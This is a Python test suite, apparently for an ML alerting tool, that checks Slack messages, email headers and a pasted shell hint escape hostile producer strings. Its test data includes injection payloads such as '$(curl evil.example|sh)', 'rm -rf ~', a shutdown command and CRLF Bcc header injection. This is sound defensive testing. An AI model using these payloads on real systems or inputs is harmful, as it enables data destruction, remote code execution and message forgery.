"""Producer-controlled strings cannot break a page: hostile model ids, versions, owner
names, runbook text and details are inert in Slack mrkdwn, cannot add mail headers or
lines, and the copy-paste command quotes the id for the shell."""

from __future__ import annotations

import email.policy
import re
import shlex
import subprocess
from datetime import UTC, datetime
from email import message_from_bytes
from typing import Any

from hypothesis import example, given
from hypothesis import strategies as st

from streams.contract.alerts import build_orphan_alert, owner_hint
from streams.contract.notification import Notification
from streams.notify.channels import email_message, slack_escape, slack_payload, slack_plain

DETECTED = datetime(2026, 11, 21, 10, 5, tzinfo=UTC)
HOSTILE = [
    "<!channel>",
    "<@U024BE7LH> look",
    "*bold* _it_ ~gone~ `code`",
    "line\nBcc: victim@example.com",
    "a\r\nSubject: forged",
    "<https://evil.example|click here>",
    "https://evil.example/login",
    "&lt;!here&gt;",
    "$(touch /tmp/pwned)",
    "`rm -rf ~`",
    "'; shutdown -h now; '",
    "\u202etxt.exe",  # right-to-left override
    "x\u2028y\u2029z\x85w\x0bv\x0cu",
    "> quoted",
]
hostile = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(
        st.characters(blacklist_categories=("Cs",)),  # any character a JSON producer can send
        min_size=1,
        max_size=60,
    ),
    st.lists(st.sampled_from(HOSTILE + list("*_~`<>&\n\r@!|:/ ")), min_size=1).map("".join),
)
ENTITY = re.compile(r"&(amp|lt|gt);")


def assert_inert_mrkdwn(escaped: str) -> None:
    """What a producer's text may look like after :func:`slack_escape`."""
    assert "<" not in escaped and ">" not in escaped  # no <!channel>, <@U..>, <url|text>
    assert "&" not in ENTITY.sub("", escaped)  # every & is one of our entities
    assert not any(c in escaped for c in "*~`")  # no bold, strike or code
    for m in re.finditer("_", escaped):  # underscores only inside words: no italics
        i = m.start()
        assert 0 < i < len(escaped) - 1
        assert escaped[i - 1].isalnum() and escaped[i + 1].isalnum()
    assert escaped.isprintable()  # no line break, no bidi override
    assert "://" not in escaped  # no bare link


@given(hostile)
@example("fraud_eu_v2")
def test_slack_escape_leaves_nothing_slack_would_act_on(value: str) -> None:
    escaped = slack_escape(value)
    assert_inert_mrkdwn(escaped)
    plain = slack_plain(value)
    assert plain.isprintable() and "<" not in plain and "://" not in plain


def test_ordinary_ids_and_kinds_read_as_they_are() -> None:
    assert slack_escape("fraud_eu_v2") == "fraud_eu_v2"
    assert slack_escape("performance_degradation") == "performance_degradation"
    assert slack_plain("fraud_eu-v2.1") == "fraud_eu-v2.1"


def alert(model: str, version: str, detector: str, alert_id: str) -> dict[str, Any]:
    return {
        "alert_id": alert_id,
        "kind": "performance_degradation",
        "model_id": model,
        "model_version": version,
        "segment": version,
        "detector": detector,
        "severity": "critical",
        "event_time": version,
        "before": {"error_rate": 0.05, "count": 800},
        "after": {"error_rate": 0.31, "count": 150},
    }


def mrkdwn_texts(payload: dict[str, Any]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    for block in payload["blocks"]:
        for obj in [block.get("text"), *block.get("fields", []), *block.get("elements", [])]:
            if isinstance(obj, dict) and obj.get("type") in ("mrkdwn", "plain_text"):
                found.append(obj)
    return found


@given(hostile, hostile, hostile, hostile, hostile)
def test_a_slack_page_of_hostile_strings_has_only_our_own_markup(
    model: str, version: str, owner: str, runbook: str, summary: str
) -> None:
    note = Notification(
        model,
        (alert(model, version, version, model), alert(model, owner, runbook, version)),
        owner,
        runbook,
        details={"summary": summary},
    )
    payload = slack_payload(note)
    assert payload["unfurl_links"] is False and payload["unfurl_media"] is False
    # the registry's runbook may be a link (<url>); everything else must be inert
    link = "<" + runbook.replace("&", "&amp;") + ">"
    assert_inert_mrkdwn_text(payload["text"].replace(f"Runbook: {link}", "Runbook: "))
    for obj in mrkdwn_texts(payload):
        text = obj["text"]
        if obj["type"] == "plain_text":
            assert "<" not in text and "://" not in text
            assert all(line.isprintable() for line in text.split("\n"))
            continue
        assert obj["verbatim"] is True
        assert "<" not in text and ">" not in text and "://" not in text
        # our markup is *bold*, `ids`, :emoji: and line breaks between list items; with
        # that taken out, what remains is producer text and must be inert
        for line in text.split("\n"):
            assert line.isprintable()
    for button in (e for b in payload["blocks"] for e in b.get("elements", [])):
        if button.get("type") == "button":
            assert button["url"] == runbook and runbook.startswith(("http://", "https://"))


def assert_inert_mrkdwn_text(text: str) -> None:
    assert "<" not in text and ">" not in text and text.isprintable() and "://" not in text


def test_mentions_formatting_and_links_from_a_producer_do_not_render() -> None:
    model = "<!channel> *urgent* https://evil.example"
    alerts = (alert(model, "1", "adwin", "a1"), alert(model, "1", "ph", "a2"))
    note = Notification(model, alerts, "<@U1> _x_", None)
    payload = slack_payload(note)
    section = payload["blocks"][1]["text"]["text"]
    assert "<!channel>" not in section and "&lt;!channel&gt;" in section
    assert "*urgent*" not in section and "∗urgent∗" in section
    assert "https[:]//evil.example" in section
    owner = payload["blocks"][-1]["elements"][1]["text"]
    assert owner == "Owner: &lt;@U1&gt; ˍxˍ"


@given(hostile, hostile, hostile)
@example("evil\r\nBcc: victim@example.com", "1\nX-Injected: yes", "a\u2028Cc: b@example.com")
def test_mail_headers_cannot_be_injected_and_lines_cannot_be_forged(
    model: str, version: str, alert_id: str
) -> None:
    note = Notification(model, (alert(model, version, "adwin", alert_id),), None, None)
    msg = email_message(note, "oncall@example.com", "wk@example.com")
    raw = msg.as_bytes()
    head, _, body = raw.partition(b"\n\n")
    parsed = message_from_bytes(raw, policy=email.policy.default)
    assert parsed["Bcc"] is None and parsed["Cc"] is None and parsed["X-Injected"] is None
    assert sorted(set(parsed.keys())) == sorted(set(msg.keys()))
    for name in ("Subject", "X-Watchkeeper-Alert-Id"):
        value = str(msg[name])
        assert "\n" not in value and "\r" not in value and value.isprintable()
    assert len(str(msg["Subject"])) <= 200
    text = msg.get_content()
    labels = [line.split(":", 1)[0] for line in text.splitlines() if line.startswith("Owner")]
    assert labels == ["Owner"], "a producer's line break forged an Owner line"
    model_lines = [line for line in text.splitlines() if line.startswith("Model:")]
    assert len(model_lines) == 1
    assert head and body


@given(hostile)
@example("$(touch /tmp/pwned)")
@example("fraud'; rm -rf ~; echo '")
@example("-rf")
def test_the_owner_hint_gives_back_the_raw_id_as_one_argument(model_id: str) -> None:
    command = owner_hint(model_id)
    argv = shlex.split(command)
    assert argv[:3] == ["watchkeeper", "owners", "set"]
    assert argv[3] == model_id
    assert argv[4:] == ["--owner", "NAME", "--channel", "SPEC", "--runbook", "URL"]


def test_the_orphan_alert_message_carries_the_quoted_command() -> None:
    model = "$(curl evil.example|sh)"
    message = build_orphan_alert(model, detected_at=DETECTED, cooldown_s=3600)["message"]
    command = message.split("`", 1)[1].rsplit("`", 1)[0]
    assert command == owner_hint(model)
    assert shlex.split(command)[3] == model


def test_a_real_shell_runs_nothing_from_a_pasted_hint(tmp_path: Any) -> None:
    """Paste the hint into sh with ``watchkeeper`` replaced by printf: the id comes back
    as text, and the command substitution in it did not run."""
    marker = tmp_path / "pwned"
    model = f"$(touch {marker})`touch {marker}`;touch {marker}"
    hint = owner_hint(model).replace("watchkeeper owners set", "printf %s", 1)
    out = subprocess.run(["sh", "-c", hint], capture_output=True, text=True, timeout=10)
    assert out.returncode == 0 and out.stdout.startswith(model)
    assert not marker.exists()
